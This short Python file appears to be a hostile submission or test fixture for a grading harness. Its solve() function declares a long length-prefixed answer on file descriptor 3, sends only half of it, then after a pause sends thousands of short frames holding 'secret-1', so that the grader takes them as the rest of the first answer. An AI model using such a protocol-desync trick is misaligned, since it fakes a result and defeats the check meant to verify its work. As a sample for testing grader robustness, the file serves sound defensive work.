"""Sends the first part of a long answer, and when its time is up the head of another
one, to have the second read as the rest of the first."""

import os
import time


def solve(n):
    text = b"'" + b"x" * 40000 + b"'"
    os.write(3, b"V" + len(text).to_bytes(4, "little") + text[:20000])
    time.sleep(0.5)
    os.write(3, b"V\x0a\x00\x00\x00'secret-1'" * 3000)
